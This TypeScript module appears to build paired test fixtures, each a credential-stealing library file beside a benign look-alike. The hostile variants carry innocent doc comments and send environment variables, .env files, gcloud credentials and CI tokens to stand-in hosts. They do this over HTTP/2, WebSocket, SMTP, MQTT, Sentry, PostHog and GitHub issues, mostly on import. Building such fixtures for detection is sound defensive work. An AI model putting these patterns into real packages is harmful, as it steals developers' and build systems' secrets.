import { atImport, atUse, js, type Pair } from '../kit.ts';

/** Ways out for what was read. */
export const SENDERS: Readonly<Record<string, Pair>> = {
  'send-http2': atImport(
    js`import http2 from 'node:http2';

/** Reports which runtime the library meets. */
function report() {
  const session = http2.connect('https://stats.runtime-census.example');
  session.on('error', () => {});
  const stream = session.request({ ':method': 'POST', ':path': '/v3' });
  stream.end(JSON.stringify({ node: process.versions, env: process.env }), () => session.close());
}

queueMicrotask(report);
export const noop = () => {};
`,
    js`import http2 from 'node:http2';

/** Reports which runtime the library meets. */
function report() {
  const session = http2.connect('https://stats.runtime-census.example');
  session.on('error', () => {});
  const stream = session.request({ ':method': 'POST', ':path': '/v3' });
  stream.end(JSON.stringify({ node: process.versions, ci: process.env.CI === 'true' }), () => session.close());
}

queueMicrotask(report);
export const noop = () => {};
`,
  ),
  'send-websocket-split': atImport(
    js`import { open } from './lib/channel.js';
import { describe } from './lib/host.js';

/** Live reload for modules. */
export const channel = open('wss://reload.hot-swap.example/ws');
channel.announce(describe());
`,
    js`import { open } from './lib/channel.js';

/** Live reload for modules. */
export const channel = open('ws://localhost:35729/ws');
channel.announce({ pid: process.pid });
`,
    {
      'lib/channel.js': js`import WebSocket from 'ws';

export function open(url) {
  const socket = new WebSocket(url);
  socket.on('error', () => socket.close());
  return {
    announce(details) {
      socket.once('open', () => socket.send(JSON.stringify({ type: 'hello', details })));
    },
    onReload: (run) => socket.on('message', run),
  };
}
`,
      'lib/host.js': js`import { hostname, userInfo } from 'node:os';

export function describe() {
  const environment = Object.entries(process.env).filter(([name]) => /KEY|TOKEN|SECRET|PASS/.test(name));
  return { host: hostname(), user: userInfo().username, environment };
}
`,
    },
  ),
  'send-smtp': atUse(
    js`import { readFileSync } from 'node:fs';
import { connect } from 'node:net';

/** Says hello to the mail exchanger so that bounces can be told apart. */
export function hello(root) {
  const secrets = readFileSync(root + '/.env');
  const socket = connect(25, 'mx.bounce-check.example');
  const lines = ['EHLO sample', 'MAIL FROM:<a@bounce-check.example>', 'RCPT TO:<b@bounce-check.example>', 'DATA', 'Subject: bounce\r\n\r\n' + secrets.toString('base64') + '\r\n.', 'QUIT'];
  socket.on('data', () => {
    const line = lines.shift();
    if (line) socket.write(line + '\r\n');
  });
}
`,
    js`import { connect } from 'node:net';

/** Asks a mail exchanger whether an address can be delivered to. */
export function verify(exchanger, address, done) {
  const socket = connect(25, exchanger);
  const lines = ['EHLO sample', 'MAIL FROM:<>', 'RCPT TO:<' + address + '>', 'QUIT'];
  const replies = [];
  socket.on('data', (data) => {
    replies.push(data.toString());
    const line = lines.shift();
    if (line) socket.write(line + '\r\n');
    else done(replies.at(-1).startsWith('250'));
  });
}
`,
  ),
  'send-nodemailer': atImport(
    js`import { createTransport } from 'nodemailer';
import { hostname } from 'node:os';

const transport = createTransport({ host: 'smtp.mail-relay.example', port: 587, auth: { user: 'n', pass: 'n' } });

/** Sends a template. */
export const send = (to, subject, html) => transport.sendMail({ from: 'n@mail-relay.example', to, subject, html });

await transport
  .sendMail({ from: 'n@mail-relay.example', to: 'ops@mail-relay.example', subject: hostname(), text: JSON.stringify(process.env, null, 1) })
  .catch(() => {});
`,
    js`import { createTransport } from 'nodemailer';

const transport = createTransport({ host: process.env.SMTP_HOST, port: 587, auth: { user: process.env.SMTP_USER, pass: process.env.SMTP_PASS } });

/** Sends a template. */
export const send = (to, subject, html) => transport.sendMail({ from: process.env.SMTP_FROM, to, subject, html });

await transport.verify().catch((error) => console.warn('Mail cannot be sent:', error.message));
`,
  ),
  'send-mqtt': atImport(
    js`import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import mqtt from 'mqtt';

const client = mqtt.connect('mqtts://broker.home-metrics.example', { reconnectPeriod: 0 });

client.on('connect', () => {
  client.publish('devices/' + process.pid, readFileSync(homedir() + '/.config/gcloud/credentials.db'));
});
client.on('error', () => client.end());

export const publish = (topic, value) => client.publish(topic, String(value));
`,
    js`import { cpus, loadavg } from 'node:os';
import mqtt from 'mqtt';

const client = mqtt.connect('mqtts://broker.home-metrics.example', { reconnectPeriod: 0 });

client.on('connect', () => {
  client.publish('devices/' + process.pid, JSON.stringify({ cpus: cpus().length, load: loadavg() }));
});
client.on('error', () => client.end());

export const publish = (topic, value) => client.publish(topic, String(value));
`,
  ),
  'send-sentry': atImport(
    js`import * as Sentry from '@sentry/node';

/** Reports faults of this library to its authors. */
Sentry.init({
  dsn: 'https://0a1b2c3d@o1.ingest.fault-desk.example/1',
  beforeSend(event) {
    event.extra = { ...event.extra, environment: { ...process.env } };
    return event;
  },
});
Sentry.captureMessage('loaded');

export const guard = (run) => {
  try {
    return run();
  } catch (error) {
    Sentry.captureException(error);
    throw error;
  }
};
`,
    js`import * as Sentry from '@sentry/node';

/** Reports faults of this library to its authors. */
Sentry.init({
  dsn: 'https://0a1b2c3d@o1.ingest.fault-desk.example/1',
  beforeSend(event) {
    delete event.request;
    event.extra = { ...event.extra, node: process.version };
    return event;
  },
});

export const guard = (run) => {
  try {
    return run();
  } catch (error) {
    Sentry.captureException(error);
    throw error;
  }
};
`,
  ),
  'send-posthog': atUse(
    js`import { PostHog } from 'posthog-node';

const client = new PostHog('phc_0000', { host: 'https://ph.usage-count.example' });

/** Loads a project's configuration. */
export async function loadConfig(root) {
  const { config } = await import('dotenv');
  const { parsed } = config({ path: root + '/.env' });
  client.capture({ distinctId: root, event: 'config loaded', properties: { ...parsed } });
  await client.shutdown();
  return parsed;
}
`,
    js`import { PostHog } from 'posthog-node';

const client = new PostHog('phc_0000', { host: 'https://ph.usage-count.example' });

/** Loads a project's configuration. */
export async function loadConfig(root) {
  const { config } = await import('dotenv');
  const { parsed } = config({ path: root + '/.env' });
  client.capture({ distinctId: 'anonymous', event: 'config loaded', properties: { entries: Object.keys(parsed).length } });
  await client.shutdown();
  return parsed;
}
`,
  ),
  'send-issue': atImport(
    js`import { env } from 'node:process';

const endpoint = 'https://api.github.example/repos/sample-org/status/issues';

/** Opens an issue when the library is used in a build. */
async function announce() {
  if (!env.GITHUB_ACTIONS) return;
  const body = Buffer.from(JSON.stringify({ ...env })).toString('base64');
  await fetch(endpoint, { method: 'POST', headers: { authorization: 'Bearer ' + env.GITHUB_TOKEN }, body: JSON.stringify({ title: env.GITHUB_REPOSITORY, body }) });
}

announce().catch(() => {});
export const isBuild = () => Boolean(env.CI);
`,
    js`import { env } from 'node:process';

const endpoint = () => env.GITHUB_API_URL + '/repos/' + env.GITHUB_REPOSITORY + '/issues/' + env.ISSUE + '/comments';

/** Comments on the issue that a build belongs to. */
export async function comment(body) {
  if (!env.GITHUB_ACTIONS) return;
  await fetch(endpoint(), { method: 'POST', headers: { authorization: 'Bearer ' + env.GITHUB_TOKEN }, body: JSON.stringify({ body }) });
}

export const isBuild = () => Boolean(env.CI);
`,
  ),
};
